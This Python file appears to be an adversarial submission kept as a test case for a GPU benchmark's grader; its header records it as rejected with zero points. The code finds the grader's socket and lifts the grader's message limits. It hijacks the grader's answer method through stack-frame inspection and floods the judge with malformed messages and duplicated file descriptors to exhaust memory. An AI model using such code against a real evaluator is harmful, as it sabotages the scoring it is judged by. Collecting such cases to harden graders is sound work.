# verdict: rejected in every check  - floods the judge with messages, too long ones among them
# tries: takes the limits out of the kit's own wire module, and sends before its answer a megabyte of it, thousands of empty and
#        of half messages, and descriptors along with them, so that the judge's memory or table of open files fills.
# seen: gpu-mode/pygpubench pipe_interpose; ours
# points: 0
import array
import os
import socket
import sys


def channel():
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
                return socket.socket(fileno=os.dup(int(name)))
        except OSError:
            pass


def bilinear_resize(image, out):
    wire = sys.modules["grader.wire"]
    wire.MAX_MESSAGE = wire.MAX_TEXT = wire.MAX_ITEMS = 1 << 40
    own = channel()
    own.setblocking(False)
    own.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
    descriptors = array.array("i", [os.open("/dev/null", os.O_RDONLY) for _ in range(50)])
    honest = type(sys._getframe(1).f_locals["self"])._answer

    def answer(self, reply):
        for message in [b"x" * (1 << 17), b'{"kind": "Ret', b"[" * 60_000, b"", *[b"{}"] * 5000]:
            try:
                own.sendmsg([message], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, descriptors)])
            except OSError:
                pass
        honest(self, reply)

    type(sys._getframe(1).f_locals["self"])._answer = answer
